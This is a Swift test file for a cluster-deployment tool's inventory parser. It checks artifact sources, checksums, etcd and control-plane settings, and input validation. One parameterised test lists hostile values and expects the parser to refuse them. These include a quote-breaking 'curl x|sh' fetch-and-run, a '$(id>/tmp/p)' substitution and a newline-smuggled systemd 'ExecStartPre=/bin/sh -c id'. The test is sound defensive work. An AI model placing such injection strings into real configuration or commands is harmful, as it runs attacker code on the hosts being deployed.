import Testing
@testable import ClusterupCore

@Suite struct InventoryDeploySectionTests {
    @Test func artifactSourcesAndPathsAreRead() throws {
        let scratch = try ScratchDirectory()
        defer { scratch.remove() }
        try scratch.write("bin/kube-scheduler", "#!/bin/sh\n", mode: 0o755)
        let yaml = minimalInventory(extra: """
        artifacts:
          etcd: {package: etcd-server}
          kube-apiserver: {url: https://example.invalid/kube-apiserver, sha256: \(String(repeating: "ab", count: 32))}
          kube-scheduler: {file: bin/kube-scheduler}
          kube-controller-manager: {present: true, version: v1.31.0, path: /opt/k8s/kcm}
        """)
        let inventory = try parseInventory(yaml, directory: scratch.path)
        let artifacts = inventory.deploy.artifacts
        #expect(artifacts["etcd"]?.source == .package("etcd-server"))
        #expect(artifacts["etcd"]?.path == "/usr/bin/etcd")
        #expect(artifacts["kube-apiserver"]?.source == .url("https://example.invalid/kube-apiserver", sha256: String(repeating: "ab", count: 32), extract: nil))
        #expect(artifacts["kube-scheduler"]?.source == .file(scratch.path + "/bin/kube-scheduler", sha256: nil))
        #expect(artifacts["kube-scheduler"]?.path == "/usr/local/bin/kube-scheduler")
        #expect(artifacts["kube-controller-manager"]?.source == .present)
        #expect(artifacts["kube-controller-manager"]?.version == "v1.31.0")
        #expect(artifacts["kube-controller-manager"]?.path == "/opt/k8s/kcm")
    }

    @Test func aURLWithoutChecksumIsRefused() {
        let error = parseError(minimalInventory(extra: "artifacts:\n  kube-apiserver: {url: https://example.invalid/k}\n"))
        #expect(error?.message.contains("sha256") == true)
        #expect(error?.exitCode == 2)
    }

    @Test func twoSourcesAreRefused() {
        let error = parseError(minimalInventory(extra: "artifacts:\n  etcd: {package: etcd-server, present: true}\n"))
        #expect(error?.message.contains("several sources") == true)
    }

    @Test func unknownArtifactSuggestsTheClosestName() {
        let error = parseError(minimalInventory(extra: "artifacts:\n  kube-apiservr: {present: true}\n"))
        #expect(error?.hint?.contains("kube-apiserver") == true)
    }

    @Test func etcdAndControlPlaneSettingsAreRead() throws {
        let inventory = try parseInventory(minimalInventory(extra: """
        etcd: {data_dir: /data/etcd, extra_args: [--quota-backend-bytes=8589934592]}
        control_plane: {version: v1.31.0, apiserver_extra_args: [--v=2]}
        """))
        #expect(inventory.deploy.etcd.dataDirectory == "/data/etcd")
        #expect(inventory.deploy.etcd.extraArgs == ["--quota-backend-bytes=8589934592"])
        #expect(inventory.deploy.controlPlane.version == "v1.31.0")
        #expect(inventory.deploy.controlPlane.apiserverExtraArgs == ["--v=2"])
    }

    @Test func aRelativeDataDirIsRefused() {
        let error = parseError(minimalInventory(extra: "etcd: {data_dir: data/etcd}\n"))
        #expect(error?.message.contains("absolute path") == true)
        #expect(error?.location?.contains("inv.yml:") == true)
    }

    @Test func anExtraArgThatIsNotAFlagIsRefused() {
        let error = parseError(minimalInventory(extra: "control_plane: {scheduler_extra_args: [v=2]}\n"))
        #expect(error?.message.contains("not a flag") == true)
    }
    /// Hostile values from the hardening review: each is refused while reading, naming the
    /// file, line and field, before any host is touched.
    @Test(arguments: [
        ("etcd: {data_dir: \"/var/lib/etcd'\u{301}; curl x|sh; : '\u{301}\"}\n", "etcd.data_dir", "holds '''"),
        ("etcd: {backup_dir: \"/srv/bk$(id>/tmp/p) x\"}\n", "etcd.backup_dir", "holds ' '"),
        ("etcd: {data_dir: /var/lib/../etc}\n", "etcd.data_dir", "not a normal path"),
        ("etcd: {data_dir: /var/lib/etcd/}\n", "etcd.data_dir", "not a normal path"),
        ("etcd: {data_dir: /}\n", "etcd.data_dir", "not a normal path"),
        ("etcd: {extra_args: [\"--v=2\\nExecStartPre=/bin/sh -c id\"]}\n", "etcd.extra_args[0]", "control character U+000A"),
        ("etcd: {extra_args: [\"--v;id=2\"]}\n", "etcd.extra_args[0]", "flag name"),
        ("control_plane: {apiserver_extra_args: [\"--v=2\\u2028x\"]}\n", "control_plane.apiserver_extra_args[0]", "U+2028"),
        ("control_plane: {version: \"v1.31\\t\"}\n", "control_plane.version", "control character U+0009"),
    ])
    func hostileValuesAreRefusedWhereTheyAreRead(extra: String, field: String, message: String) {
        let error = parseError(minimalInventory(extra: extra))
        #expect(error?.kind == .badInput)
        #expect(error?.message.contains(field) == true, "\(error?.message ?? "no error")")
        #expect(error?.message.contains(message) == true, "\(error?.message ?? "no error")")
        #expect(error?.location?.contains("inv.yml:") == true)
    }
}
